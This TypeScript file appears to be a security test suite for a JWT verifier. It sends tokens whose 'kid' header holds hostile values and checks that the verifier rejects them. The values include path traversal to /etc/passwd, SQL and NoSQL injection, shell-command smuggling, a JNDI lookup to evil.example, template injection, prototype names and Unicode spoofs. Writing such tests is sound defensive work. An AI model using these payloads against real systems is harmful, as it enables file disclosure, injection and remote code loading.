import { toTokens } from './attack.js'
import type { Attack } from './attack.js'

/** `kid` as something else than a name inside one set. */
export const kid: readonly Attack[] = [
  {
    title: 'A8: kid as a path, a query, a command, a pattern, a prototype or another spelling',
    tokens: async ({ token }) => {
      const kids = [
        '../../../../../../dev/null',
        '/proc/self/environ',
        'C:\\Windows\\win.ini',
        'file:///etc/passwd',
        "' UNION SELECT 'secret'--",
        "es256-1'--",
        '"; DROP TABLE keys; --',
        '{"$ne":null}',
        '$(touch /tmp/pwned)',
        '`id`',
        '| cat /etc/passwd',
        '*',
        '.*',
        '${jndi:ldap://evil.example/a}',
        '{{7*7}}',
        '__proto__',
        'constructor',
        'prototype',
        'toString',
        'hasOwnProperty',
        'keys',
        '0',
        '',
        ' ',
        'ES256-1',
        ' es256-1',
        'es256-1 ',
        'es256-1\0',
        'es256-1\0.pem',
        'es256\u20111',
        'es256-1\u200b',
        'es256-1,rs256-1',
        'k'.repeat(2_500),
      ]
      const made = kids
        .filter((name) => name.length < 1_500)
        .map(async (name) => [JSON.stringify(name), await token({}, { kid: name })] as const)
      const long = await token({}, { kid: kids.at(-1) ?? '' })
      return [
        ...toTokens('ERR_KEY_NOT_FOUND', Object.fromEntries(await Promise.all(made))),
        ...toTokens('ERR_TOKEN_TOO_LARGE', { 'a name of 2,500 characters': long }),
      ]
    },
  },
  {
    title: 'A8: kid that is no string',
    tokens: async ({ token }) => {
      const values: readonly unknown[] = [null, 0, 1, true, false, [], ['es256-1'], {}, { toString: 'es256-1' }]
      const made = values.map(
        async (value) => [JSON.stringify(value), await token({}, { header: { kid: value } })] as const,
      )
      return toTokens('ERR_TOKEN_HEADER', Object.fromEntries(await Promise.all(made)))
    },
  },
]
